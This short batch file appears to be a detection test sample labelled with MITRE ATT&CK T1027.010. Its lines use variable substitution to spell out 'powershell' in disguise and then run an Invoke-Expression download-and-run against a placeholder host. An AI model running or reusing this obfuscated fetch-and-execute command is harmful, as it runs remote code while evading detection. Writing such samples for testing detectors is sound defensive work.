@rem expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
set w=pQwersh3ll
%w:Q=o%%nothing% -v & set v=%w:Q=o%
%v:3=e% -c "iex (irm http://files.example.invalid/s)"
